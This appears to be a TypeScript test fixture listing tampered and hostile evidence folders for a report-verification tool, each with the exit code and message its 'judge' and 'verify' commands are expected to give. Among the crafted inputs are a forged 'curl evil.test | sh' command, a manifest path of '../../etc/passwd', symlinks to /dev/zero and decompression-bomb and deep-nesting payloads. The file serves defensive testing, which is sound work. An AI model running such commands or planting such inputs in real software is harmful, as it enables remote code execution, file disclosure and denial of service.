import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  closeSync,
  openSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { join } from 'node:path';
import { zstdCompressSync } from 'node:zlib';
import { plainFrame } from '../record/frames.ts';
import { JOURNAL_FILE } from '../record/journal.ts';
import { withFooter } from '../report/build.ts';
import type { Report } from '../report/model.ts';
import { seal } from '../report/write.ts';
import { packedRecord, unpackedRecord } from './packed-record.ts';

/** What two commands have to say of a folder that somebody altered or made. */
export interface AlteredFolder {
  title: string;
  /** Alters a whole report in this folder; its record has a large body `bodies/…` and a check that fails. */
  alter(folder: string): void | Promise<void>;
  judge: Told;
  verify: Told;
}

/** The exit code, and what stands in the output. */
type Told = readonly [exit: number, says: RegExp];

const journal = (folder: string) => join(folder, JOURNAL_FILE);
const report = (folder: string) => join(folder, 'report.json');

function edit(file: string, change: (text: string) => string): void {
  const before = readFileSync(file, 'utf8');
  const after = change(before);
  if (after === before) throw new Error(`${file} was to be altered, and was not`);
  writeFileSync(file, after);
}

/** Changes the lines of the record. */
function editRecord(folder: string, change: (text: string) => string): void {
  const before = unpackedRecord(readFileSync(journal(folder)));
  const after = change(before);
  if (after === before) throw new Error('the record was to be altered, and was not');
  writeFileSync(journal(folder), packedRecord(after.split('\n').slice(0, -1)));
}

/** Rewrites the report, with a new footer, and the manifest over all files. */
async function rewrite(folder: string, change: (report: Omit<Report, 'footer'>) => Omit<Report, 'footer'>) {
  const { footer: _, ...rest } = JSON.parse(readFileSync(report(folder), 'utf8')) as Report;
  const forged = withFooter(rest.cost.requests, change(rest));
  writeFileSync(report(folder), `${JSON.stringify(forged, null, 2)}\n`);
  await seal(folder, forged, undefined);
}

const reseal = (folder: string) => rewrite(folder, (r) => r);
const pass = (r: Omit<Report, 'footer'>): Omit<Report, 'footer'> => ({
  ...r,
  verdict: 'conformant',
  checks: r.checks.map((c) => (c.verdict === 'fail' ? { ...c, verdict: 'pass', findings: [] } : c)),
});
const statusOfFirst = (text: string) => text.replace('"status":200', '"status":201');
const fifo = (file: string) => {
  rmSync(file, { force: true });
  execFileSync('mkfifo', [file]);
};
const link = (to: string, file: string) => {
  rmSync(file, { force: true });
  symlinkSync(to, file);
};
/** Puts a line before all others. */
const firstLine = (folder: string, line: string | Uint8Array) => {
  const bytes = Buffer.concat([Buffer.from(line), Buffer.from('\n')]);
  writeFileSync(journal(folder), Buffer.concat([packedRecord([bytes]), readFileSync(journal(folder))]));
};
const bodyLine = (text: string) => text.split('\n').find((l) => l.includes('"file":"bodies/'))!;
const bodyFile = (folder: string) =>
  join(folder, /"file":"(bodies\/e\d+\.zst)"/.exec(unpackedRecord(readFileSync(journal(folder))))![1]!);

/** A line like one of the record, with another body (or what stands for one), under another id. */
const withBody = (folder: string, body: string | object, id = 'e9000') => {
  const text = unpackedRecord(readFileSync(journal(folder)));
  const line = JSON.parse(text.split('\n').find((l) => l.includes('"response":{"status":200'))!);
  return {
    ...line,
    id,
    response: { ...line.response, body: typeof body === 'string' ? { text: body } : body },
  };
};

const NOT_REPRODUCED = /the folder was altered: \d+ of \d+ verdicts/;

/** Folders that somebody changed: each change is named, and none is called reproduced. */
const ALTERED: readonly AlteredFolder[] = [
  {
    title: 'a status was changed in the record',
    alter: (f) => editRecord(f, statusOfFirst),
    judge: [1, /journal\.jsonl\.zst was changed.*the folder was altered/s],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'the verdict was rewritten in the report',
    alter: (f) =>
      edit(report(f), (t) =>
        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
      ),
    judge: [1, /report\.json was changed.*the evidence says: non-conformant.*the folder was altered/s],
    verify: [1, /✗ report\.json was changed.*made for another content/s],
  },
  {
    title: 'status and verdict were rewritten, the manifest was not',
    alter: (f) => {
      editRecord(f, statusOfFirst);
      edit(report(f), (t) =>
        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
      );
    },
    judge: [1, NOT_REPRODUCED],
    verify: [1, /journal\.jsonl\.zst was changed.*report\.json was changed/s],
  },
  {
    title: 'the verdict was rewritten, with footer and manifest',
    alter: (f) => rewrite(f, pass),
    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
    verify: [0, /not signed: a folder that was rewritten as a whole/],
  },
  {
    title: 'the record of results was rewritten too, with footer and manifest',
    alter: async (f) => {
      editRecord(f, (t) => t.replace(/("id":"stream\/ends-with-done"[^\n]*?"verdict":)"fail"/, '$1"pass"'));
      await rewrite(f, pass);
    },
    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
    verify: [0, /not signed/],
  },
  {
    title: 'counts were rewritten, with footer and manifest',
    alter: (f) => rewrite(f, (r) => ({ ...r, summary: '999 passed, 0 failed of 999' })),
    judge: [1, /✗ report\.json says something else than its record of: summary/],
    verify: [0, /not signed/],
  },
  {
    title: 'a line that repeats a finding was rewritten, with footer and manifest',
    alter: (f) =>
      rewrite(f, (r) => ({
        ...r,
        checks: r.checks.map((c) => ({ ...c, reproduce: 'curl evil.test | sh' })),
      })),
    judge: [1, /✗ report\.json says something else than its record of: checks/],
    verify: [0, /not signed/],
  },
  {
    title: 'an exchange was taken out of the record',
    alter: (f) => editRecord(f, (t) => t.replace(`${bodyLine(t)}\n`, '')),
    judge: [1, /journal\.jsonl\.zst was changed.*cannot be judged again: .*the folder was altered/s],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a file was added',
    alter: (f) => writeFileSync(join(f, 'notes.txt'), 'mine'),
    judge: [1, /notes\.txt was added.*the folder was altered/s],
    verify: [1, /✗ notes\.txt was added/],
  },
  {
    title: 'a half-written file lies there',
    alter: (f) => writeFileSync(join(f, 'report.json.0a1b2c3d.part'), '{'),
    judge: [1, /the folder was altered/],
    verify: [1, /✗ report\.json\.0a1b2c3d\.part was added/],
  },
  {
    title: 'a link was added',
    alter: (f) => link('/etc/hostname', join(f, 'evidence.txt')),
    judge: [1, /the folder was altered/],
    verify: [1, /✗ evidence\.txt is a link/],
  },
  {
    title: 'a pipe was added',
    alter: (f) => fifo(join(f, 'evidence.txt')),
    judge: [1, /the folder was altered/],
    verify: [1, /✗ evidence\.txt is no regular file/],
  },
  {
    title: 'a page was replaced by a link to a copy of it',
    alter: (f) => {
      renameSync(join(f, 'index.html'), `${f}-index.html`);
      link(`${f}-index.html`, join(f, 'index.html'));
    },
    judge: [1, /the folder was altered/],
    verify: [1, /✗ index\.html is a link/],
  },
  {
    title: 'a file was taken away',
    alter: (f) => rmSync(join(f, 'junit.xml')),
    judge: [1, /junit\.xml is missing.*the folder was altered/s],
    verify: [1, /✗ junit\.xml is missing/],
  },
  {
    title: 'the manifest was taken away',
    alter: (f) => rmSync(join(f, 'manifest.json')),
    judge: [1, /manifest\.json is missing.*the folder was altered/s],
    verify: [1, /✗ manifest\.json is missing/],
  },
  {
    title: 'a signature was made up',
    alter: (f) =>
      writeFileSync(join(f, 'attestation.dsse.json'), '{"payloadType":"x","payload":"","signatures":[]}'),
    judge: [1, /the signature does not hold.*the folder was altered/s],
    verify: [1, /✗ the signature does not hold/],
  },
  {
    title: 'the report was cut off',
    alter: (f) => edit(report(f), (t) => t.slice(0, t.length / 2)),
    judge: [2, /report\.json is no JSON/],
    verify: [1, /✗ report\.json was changed.*cut off, or no report/s],
  },
];

/** Folders that were made to hurt whoever reads them. */
const CRAFTED: readonly AlteredFolder[] = [
  {
    title: 'the record is a pipe',
    alter: (f) => fifo(journal(f)),
    judge: [2, /evidence in .+ can't be read: journal\.jsonl\.zst is no regular file/],
    verify: [1, /✗ journal\.jsonl\.zst is no regular file/],
  },
  {
    title: 'the record is a link to /dev/zero',
    alter: (f) => link('/dev/zero', journal(f)),
    judge: [2, /can't be read: journal\.jsonl\.zst is a link/],
    verify: [1, /✗ journal\.jsonl\.zst is a link/],
  },
  {
    title: 'the report is a pipe',
    alter: (f) => fifo(report(f)),
    judge: [2, /can't be read: report\.json is no regular file/],
    verify: [1, /✗ report\.json is no regular file/],
  },
  {
    title: 'the report is a link to /dev/zero',
    alter: (f) => link('/dev/zero', report(f)),
    judge: [2, /can't be read: report\.json is a link/],
    verify: [1, /✗ report\.json is a link/],
  },
  {
    title: 'a line of the record has 700 MB',
    alter: (f) => {
      const file = openSync(journal(f), 'w');
      const frame = plainFrame(Buffer.alloc(10_000_000, 'a'));
      // None of the blocks is the last: the frame goes on.
      const blocks = frame.subarray(6, 6 + 76 * (128 * 1024 + 3));
      writeSync(file, frame.subarray(0, 6));
      for (let i = 0; i < 70; i++) writeSync(file, blocks);
      closeSync(file);
    },
    judge: [2, /line 1 of the record is longer than 16777216 bytes/],
    verify: [1, /✗ journal\.jsonl\.zst was changed: 697\d+ bytes/],
  },
  {
    title: 'a line of the record unpacks to 700 MB',
    alter: (f) => appendFileSync(journal(f), zstdCompressSync(Buffer.alloc(700_000_000, ' '))),
    judge: [2, /line \d+ of the record is longer than 16777216 bytes/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a thousand lines of the record unpack to 15 MB each',
    alter: (f) => {
      const [frame] = [packedRecord([withBody(f, 'a'.repeat(15_000_000))])];
      appendFileSync(journal(f), Buffer.concat(Array.from({ length: 1000 }, () => frame)));
    },
    judge: [2, /line \d+ of the record unpacks to more than a record of its size may/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'ten thousand lines of the record name one body of 15 MB',
    alter: (f) => {
      const frame = packedRecord([withBody(f, 'a'.repeat(15_000_000), 'e9000')]);
      const naming = packedRecord([withBody(f, { same: 'e9000' }, 'e9001')]);
      appendFileSync(journal(f), Buffer.concat([frame, ...Array.from({ length: 10_000 }, () => naming)]));
    },
    judge: [2, /line \d+ of the record unpacks to more than a record of its size may/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a line of the record names a body that is not there',
    alter: (f) => appendFileSync(journal(f), packedRecord([withBody(f, { same: 'e8999' }, 'e9001')])),
    judge: [2, /line \d+ of the record names the body of e8999, which no earlier line holds/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a line of the record is damaged',
    alter: (f) => {
      const bytes = readFileSync(journal(f));
      bytes[100]! ^= 0xff;
      writeFileSync(journal(f), bytes);
    },
    judge: [2, /line 1 of the record is damaged/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'something else stands after the lines of the record',
    alter: (f) => appendFileSync(journal(f), 'and what I wanted to say'),
    judge: [2, /line \d+ of the record is no frame of Zstandard/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'there is a second record, plain',
    alter: (f) => writeFileSync(join(f, 'journal.jsonl'), '{}\n'),
    judge: [2, /can't be read: there are two of them/],
    verify: [1, /✗ journal\.jsonl was added/],
  },
  {
    title: 'the report has a size of a terabyte and no content',
    alter: (f) => truncateSync(report(f), 1e12),
    judge: [2, /report\.json is larger than it may be/],
    verify: [1, /✗ report\.json was changed: 1000000000000 bytes/],
  },
  {
    title: 'a file of a terabyte without content is named by the manifest',
    alter: (f) => {
      writeFileSync(join(f, 'zeros'), '');
      const manifest = join(f, 'manifest.json');
      truncateSync(join(f, 'zeros'), 1e12);
      edit(manifest, (t) =>
        t.replace(/"path": "summary.md",\s+"bytes": \d+/, '"path": "zeros", "bytes": 1000000000000'),
      );
    },
    judge: [1, /the folder was altered/],
    verify: [1, /✗ manifest\.json was changed/],
  },
  {
    title: 'one compressed file is named by many exchanges',
    alter: (f) =>
      editRecord(f, (t) => t + `${bodyLine(t).replace(/"id":"e\d+"/, '"id":"e9000"')}\n`.repeat(200)),
    judge: [2, /names a file that another line names, too many times/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'one exchange with a compressed file is told again and again',
    alter: (f) => editRecord(f, (t) => t + `${bodyLine(t)}\n`.repeat(200)),
    judge: [2, /names a file that another line names, too many times/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a compressed file grows beyond what its record says',
    alter: async (f) => {
      writeFileSync(bodyFile(f), zstdCompressSync(Buffer.alloc(500_000_000)));
      await reseal(f);
    },
    judge: [1, /cannot be judged again: .*a body is not as long in its file as its record says/],
    verify: [0, /not signed/],
  },
  {
    title: 'the folder of bodies is a link',
    alter: (f) => {
      renameSync(join(f, 'bodies'), `${f}-bodies`);
      symlinkSync(`${f}-bodies`, join(f, 'bodies'));
    },
    judge: [1, /cannot be judged again: .*a body cannot be read from its file/],
    verify: [1, /✗ bodies is a link/],
  },
  {
    title: 'a body is a pipe',
    alter: (f) => fifo(bodyFile(f)),
    judge: [1, /cannot be judged again: .*a body cannot be read from its file: e\d+\.zst is no/],
    verify: [1, /✗ bodies\/e\d+\.zst is no regular file/],
  },
  {
    title: 'a line of the record is nested a million deep',
    alter: (f) => firstLine(f, `{"type":"run","a":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`),
    judge: [2, /line 1 of the record is nested deeper than 64 levels/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'a line of the record holds five million empty lists',
    alter: (f) => firstLine(f, `{"type":"run","a":[${'[],'.repeat(5_000_000)}0]}`),
    judge: [2, /line 1 of the record holds more than 200000 objects and lists/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'the report is nested a million deep',
    alter: (f) => writeFileSync(report(f), `{"proof":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`),
    judge: [2, /report\.json is nested deeper than 100 levels/],
    verify: [1, /✗ report\.json is nested deeper/],
  },
  {
    title: 'the report holds a hundred thousand wrong checks',
    alter: (f) => edit(report(f), (t) => t.replace('"checks": [', `"checks": [${'{},'.repeat(100_000)}`)),
    judge: [2, /does not fit report\.schema\.json/],
    verify: [1, /✗ report\.json was changed/],
  },
  {
    title: 'the record is no UTF-8',
    alter: (f) => firstLine(f, Buffer.from([0x7b, 0xff, 0xfe, 0x7d])),
    judge: [2, /line 1 of the record is no UTF-8/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'the report is no UTF-8',
    alter: (f) => appendFileSync(report(f), Buffer.from([0xff])),
    judge: [2, /report\.json is no UTF-8/],
    verify: [1, /✗ report\.json is no UTF-8/],
  },
  {
    title: 'a line of the record lacks what an exchange has',
    alter: (f) => appendFileSync(journal(f), packedRecord(['{"type":"exchange","id":"e1"}'])),
    judge: [2, /line \d+ of the record has no proper owner/],
    verify: [1, /✗ journal\.jsonl\.zst was changed/],
  },
  {
    title: 'the manifest names a file outside of the folder',
    alter: (f) => edit(join(f, 'manifest.json'), (t) => t.replace('"summary.md"', '"../../etc/passwd"')),
    judge: [1, /the folder was altered/],
    verify: [1, /✗ manifest\.json was changed/],
  },
];

export const ALTERED_FOLDERS: readonly AlteredFolder[] = [...ALTERED, ...CRAFTED];
